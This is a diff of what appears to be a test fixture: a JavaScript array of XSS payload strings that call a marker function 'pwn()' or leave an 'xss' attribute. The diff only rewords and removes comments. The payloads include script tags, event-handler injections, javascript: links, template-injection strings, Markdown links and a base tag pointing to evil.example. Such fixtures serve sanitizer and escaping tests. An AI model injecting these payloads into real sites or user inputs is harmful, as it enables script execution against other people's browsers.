@@ -1,9 +1,8 @@
 /**
- * Each would call `pwn()` or leave an `xss` element or attribute where it is taken for markup, a script, an
- * attribute, a link or a template. None is longer than a username may be, none is another one in capitals.
+ * Each calls `pwn()` or leaves an `xss` element or attribute if it is interpreted as markup, script, attribute, link or
+ * template. None exceeds the length of a username; no two differ only in case.
  */
 export const payloads = [
-  // Elements that run on their own.
   "<script>pwn()</script>",
   "<ScRiPt xss>pwn()</sCrIpT>",
   "<script src=data:,pwn() xss></script>",
@@ -25,7 +24,7 @@ export const payloads = [
   "<meta http-equiv=refresh content='0;url=javascript:pwn()' xss>",
   "<base href=//evil.example/ xss>",
   "<form action=javascript:pwn() xss><button>x</button></form>",
-  // Ways out of where text stands.
+  // Escapes from text contexts.
   "</script><script xss>pwn()</script>",
   "<!--<script>--><img src=x onerror=pwn() xss>",
   "</title><img src=x onerror=pwn() xss>",
@@ -38,7 +37,6 @@ export const payloads = [
   "` onerror=pwn() xss=`",
   "&lt;img src=x onerror=pwn() xss&gt;",
   "\u2028\"};pwn();//${pwn()}{{constructor.constructor('pwn()')()}}",
-  // Links and pictures of Markdown.
   "[xss](javascript:pwn())",
   "[xss](JaVaScRiPt:pwn() 'x')",
   "[xss](  java\tscript:pwn())",
